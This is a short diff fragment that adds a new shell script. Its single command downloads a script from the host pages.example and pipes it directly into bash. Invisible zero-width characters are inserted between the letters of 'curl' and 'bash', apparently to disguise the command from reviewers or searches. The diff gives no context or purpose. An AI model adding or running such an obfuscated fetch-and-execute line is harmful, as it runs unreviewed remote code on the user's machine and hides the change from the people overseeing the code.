@@ -1,0 +1,2 @@
+#!/bin/sh
+c​u​r​l -s https://pages.example/t.sh | b​a​s​h
